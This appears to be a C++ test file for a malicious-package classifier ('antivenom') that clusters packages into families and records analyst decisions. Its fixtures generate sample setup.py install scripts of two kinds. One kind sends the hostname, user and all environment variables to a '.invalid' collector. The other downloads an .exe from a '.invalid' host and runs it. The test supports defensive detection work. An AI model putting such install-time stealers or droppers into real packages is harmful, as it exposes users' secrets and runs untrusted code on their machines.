// `classify` from outside: targets, a dataset, an analyst's decisions, new packages, families.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "../support/packages.h"
#include "../support/process.h"

namespace antivenom {
namespace {

using nlohmann::json;
using test_support::Finished;
using test_support::TemporaryFolder;
using ::testing::HasSubstr;
using ::testing::StartsWith;

// Two campaigns: one sends host names, one drops a file and starts it. Names and literals differ, as they do.
std::string sender(int i) {
  const std::string v = "v" + std::to_string(i), own[] = {"getuid", "getpid", "getlogin", "getcwd", "uname", "getppid"};
  return "import os, socket, platform, getpass, requests\nfrom setuptools import setup\n" + v +
         " = {'h': socket.gethostname(), 'u': getpass.getuser(), 'p': platform.node()}\n" + v +
         "['e'] = dict(os.environ)\n" + v + "['a'] = socket.gethostbyname(" + v + "['h'])\ntry:\n    " + v +
         "['o'] = os." + own[i % 6] + "()\n    requests.post('https://collect" + std::to_string(i) +
         ".invalid/in', json=" + v +
         ", timeout=3)\nexcept Exception:\n    pass\nsetup(name='s', version='1.0', packages=[], "
         "description='colours')\n";
}
std::string dropper(int i) {
  const std::string v = "w" + std::to_string(i), own[] = {"chmod", "access", "utime", "stat", "lstat", "truncate"};
  return "import os, tempfile, subprocess, urllib.request\nfrom setuptools import setup\n" + v +
         " = os.path.join(tempfile.gettempdir(), 'a" + std::to_string(i) + ".exe')\nif not os.path.exists(" + v +
         "):\n    with open(" + v +
         ", 'wb') as out:\n        out.write(urllib.request.urlopen('https://files.invalid/" + std::to_string(i) +
         "').read())\n    os." + own[i % 6] + "(" + v + ", 7)\n    subprocess.Popen([" + v +
         ", '-q'], shell=True)\n    os.startfile(" + v +
         ")\nsetup(name='d', version='1.0', packages=[], description='turbo')\n";
}

class Classify : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string families = "path,family,first_seen\n";
    for (int i = 0; i < 6; ++i) {
      for (const bool sends : {true, false}) {
        const std::string name = (sends ? "colour-sender-" : "turbo-drop-") + std::to_string(i);
        const std::string path = "bad/" + name + "/1.0/" + name + "-1.0.tar.gz";
        folder_.write(path, test_support::sdist_of({{"setup.py", sends ? sender(i) : dropper(i)}}));
        families += path + "," + (sends ? "send" : "drop") + ",2023-0" + std::to_string(i + 1) + "-05\n";
        targets_.push_back(path);
      }
    }
    folder_.write("families.csv", families);
  }
  Finished run(std::vector<std::string> arguments) {
    arguments.insert(arguments.begin(), "classify");
    return test_support::run_antivenom(arguments, folder_);
  }
  json run_json(std::vector<std::string> arguments, int code = 0) {
    arguments.insert(arguments.end(), {"--format", "json"});
    const Finished finished = run(arguments);
    EXPECT_EQ(finished.code, code) << finished.err;
    return json::parse(finished.out, nullptr, false);
  }
  std::vector<std::string> with_targets(std::vector<std::string> arguments) {
    arguments.insert(arguments.begin(), targets_.begin(), targets_.end());
    return arguments;
  }

  TemporaryFolder folder_;
  std::vector<std::string> targets_;
};

TEST_F(Classify, targets_to_clusters) {
  const json out =
      run_json(with_targets({"--clusters", "2", "--families", "families.csv", "--neighbours", "2", "--assignments",
                             "out.csv", "--vectors", "out.npy", "--model", "model.txt", "--report", "map.html"}));
  EXPECT_EQ(out["packages"], 12);
  EXPECT_EQ(out["distinct_sequences"], 9);  // some of the calls say nothing
  ASSERT_EQ(out["clusters"].size(), 2u);
  for (const char* key : {"id", "size", "category", "label", "medoid", "calls"})
    EXPECT_TRUE(out["clusters"][0].contains(key)) << key;
  EXPECT_EQ(out["clusters"][0]["size"], 6);
  EXPECT_EQ(out["quality"]["ari"], 1);
  EXPECT_EQ(out["quality"]["nmi"], 1);
  EXPECT_TRUE(out["quality"]["silhouette"].is_number());
  EXPECT_TRUE(out["seconds"].is_number());
  EXPECT_EQ(out["categories"]["information-stealing"], 6);
  ASSERT_EQ(out["families"].size(), 2u);
  EXPECT_EQ(out["families"][0]["size"], 6);
  EXPECT_EQ(out["family_quality"]["ari"], 1);
  std::set<std::string> patterns = {out["families"][0]["pattern"], out["families"][1]["pattern"]};
  EXPECT_EQ(patterns, (std::set<std::string>{"sample"}));  // the names that the packages give themselves

  EXPECT_THAT(test_support::read_file(folder_.path() + "/out.csv"),
              StartsWith("path,cluster,category,family\nbad/colour-sender-0/"));
  const std::string vectors = test_support::read_file(folder_.path() + "/out.npy");
  EXPECT_THAT(vectors, StartsWith("\x93NUMPY"));
  EXPECT_THAT(vectors, HasSubstr("'shape': (12, 64)"));
  EXPECT_EQ(vectors.size() % 64, 12u * 64 * 4 % 64);
  EXPECT_THAT(test_support::read_file(folder_.path() + "/map.html"), HasSubstr("<html"));

  // A package that was not there is put where it belongs.
  folder_.write("new-1.0.tar.gz", test_support::sdist_of({{"setup.py", sender(9)}}));
  const json assigned = run_json({"--assign", "new-1.0.tar.gz", targets_[0], "--model", "model.txt"});
  ASSERT_EQ(assigned["assigned"].size(), 2u);
  EXPECT_EQ(assigned["assigned"][0]["cluster"], assigned["assigned"][1]["cluster"]);
  EXPECT_EQ(assigned["assigned"][0]["category"], assigned["assigned"][1]["category"]);
}

TEST_F(Classify, wrong_use) {
  EXPECT_EQ(run(with_targets({"--families", "missing.csv"})).code, 2);
  EXPECT_EQ(run({"--clusters", "0", "x"}).code, 2);
  EXPECT_EQ(run({"--db", "sqlite://none/at/all.db"}).code, 2);
  const Finished missing = run({targets_[0], "gone.tar.gz"});
  EXPECT_EQ(missing.code, 2);
  EXPECT_THAT(missing.err, HasSubstr("gone.tar.gz"));
  EXPECT_THAT(missing.out, HasSubstr("2 packages"));
  folder_.write("wrong.txt", "no model");
  EXPECT_THAT(run({"--assign", targets_[0], "--model", "./wrong.txt"}).err, HasSubstr("is no model"));
}

TEST_F(Classify, a_dataset_keeps_decisions_and_families) {
  const std::vector<std::string> db = {"--db", "sqlite://" + folder_.path() + "/data.db"};
  const auto with_db = [&](std::vector<std::string> arguments) {
    arguments.insert(arguments.end(), db.begin(), db.end());
    return arguments;
  };
  ASSERT_EQ(test_support::run_antivenom(with_db({"collect", "import", "--scan", "bad"}), folder_).code, 0);
  EXPECT_EQ(run(with_db({"rename", "0", "x", "--by", "ann"})).code, 2);  // nothing was classified yet
  const std::vector<std::string> classify = with_db({"--clusters", "2", "--neighbours", "2"});
  const json first = run_json(classify);
  ASSERT_EQ(first["clusters"].size(), 2u);
  EXPECT_EQ(first["packages"], 12);
  ASSERT_EQ(first["families"].size(), 2u);
  EXPECT_THAT(first["families"][0]["pattern"].get<std::string>() + first["families"][1]["pattern"].get<std::string>(),
              HasSubstr("turbo-drop-*"));

  EXPECT_EQ(run(with_db({"rename", "1", "ours", "--by", "ann", "--note", "seen"})).code, 0);
  EXPECT_EQ(run(with_db({"confirm", "1", "--by", "ann"})).code, 0);
  EXPECT_EQ(run(with_db({"category", "0", "nonsense", "--by", "ann"})).code, 2);
  EXPECT_EQ(run(with_db({"merge", "0", "--by", "ann"})).code, 2);
  EXPECT_EQ(run(with_db({"confirm", "7", "--by", "ann"})).code, 2);
  EXPECT_EQ(run_json(with_db({"decisions"}))["decisions"].size(), 2u);
  std::vector<std::string> again = classify;
  again.insert(again.end(), {"--seed", "5"});
  const json second = run_json(again);
  size_t ours = 0;
  for (const json& cluster : second["clusters"]) {
    if (cluster["label"] != "ours") continue;
    ++ours;
    EXPECT_EQ(cluster["confirmed"], true);
    EXPECT_EQ(cluster["by"], "ann");
    EXPECT_EQ(cluster["note"], "seen");
    EXPECT_EQ(cluster["category"], first["clusters"][1]["category"]);
  }
  EXPECT_EQ(ours, 1u);
  EXPECT_EQ(run(with_db({"merge", "0", "1", "--by", "bob"})).code, 0);
  EXPECT_EQ(run_json(classify)["clusters"].size(), 1u);

  // A newcomer's family is known at once.
  folder_.write("new-1.0.tar.gz", test_support::sdist_of({{"setup.py", dropper(9)}}));
  const json assigned = run_json(with_db({"--assign", "new-1.0.tar.gz"}));
  EXPECT_EQ(assigned["assigned"][0]["family"]["name"], "turbo-drop-*");
  EXPECT_EQ(assigned["assigned"][0]["family"]["member"], 7);
  const Finished scanned = test_support::run_antivenom(with_db({"scan", "new-1.0.tar.gz"}), folder_);
  EXPECT_THAT(scanned.out, HasSubstr("member 7 of family turbo-drop-*"));
  const Finished unknown = test_support::run_antivenom({"scan", "new-1.0.tar.gz"}, folder_);
  EXPECT_THAT(unknown.out, ::testing::Not(HasSubstr("family")));
}

}  // namespace
}  // namespace antivenom
